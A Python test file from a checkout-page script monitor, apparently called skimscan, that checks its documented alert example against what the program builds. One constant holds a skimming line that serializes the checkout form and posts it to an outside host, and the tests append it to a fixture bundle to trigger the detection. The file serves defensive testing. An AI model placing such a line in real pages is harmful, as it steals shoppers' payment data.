"""Examples in the documentation that no shell command prints, built by the program here and
compared with the document (`<!-- doc: example NAME -->` blocks; "…" as in `output` blocks)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from skimscan.inventory.alert import PageAlert, build_payload
from skimscan.inventory.diff import Change, ChangeKind
from skimscan.inventory.normalize import code_diff, normalize_code, script_key
from tests.docs.runner import Block, blocks, compare

ROOT = Path(__file__).resolve().parents[2]
DOCS = [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]
PAGE = "https://shop.example/checkout"
APP_URL = "https://shop.example/static/app.3f2a9c1b.js?v=2"  # served from checkout-hosted.js
APPENDED = '$.post("https://baways.com/gateway", $("#checkout").serialize());'


def alert_example() -> Any:
    """The alert `watch` sends when one line is appended to the example shop's bundle."""
    before = (ROOT / "fixtures/shop/sites/shop.test/static/js/checkout-hosted.js").read_text()
    after = before + APPENDED + "\n"
    b, a = normalize_code(before), normalize_code(after)
    key = script_key(APP_URL, "external", PAGE, a.ast_hash)
    detail = code_diff(b.code, a.code, labels=("baseline 1f0c2a9e4b7d", "current 9a3e61c0d2f4"))
    change = Change(ChangeKind.CHANGED_SCRIPT, PAGE, key, b.ast_hash, a.ast_hash, detail)
    page = PageAlert(PAGE, 412, "complete", (change,), detected_at="2026-11-28T03:00:02.000Z")
    return json.loads(json.dumps(build_payload([page], sent_at="2026-11-28T03:00:07.123Z")))


EXAMPLES: dict[str, Callable[[], Any]] = {"alert": alert_example}


def _examples() -> list[Block]:
    return [b for doc in DOCS for b in blocks(doc) if b.action == "example"]


@pytest.mark.parametrize("block", _examples(), ids=lambda b: f"{b.where}-{b.reason}")
def test_documented_example_is_what_the_program_builds(block: Block) -> None:
    assert block.reason in EXAMPLES, f"{block.where}: no test builds example {block.reason!r}"
    problem = compare(json.loads(block.text), EXAMPLES[block.reason](), "$")
    assert problem is None, f"{block.where}: the documented example drifted: {problem}"


def test_every_example_builder_has_its_block() -> None:
    assert {b.reason for b in _examples()} == set(EXAMPLES)


def test_the_alert_diff_is_the_appended_line() -> None:
    """The docs promise: an appended line is one `+` line, and nothing else changes."""
    detail = alert_example()["pages"][0]["changes"][0]["detail"]
    added = [line for line in detail.splitlines()[2:] if line.startswith(("+", "-"))]
    assert added == ["+" + APPENDED]
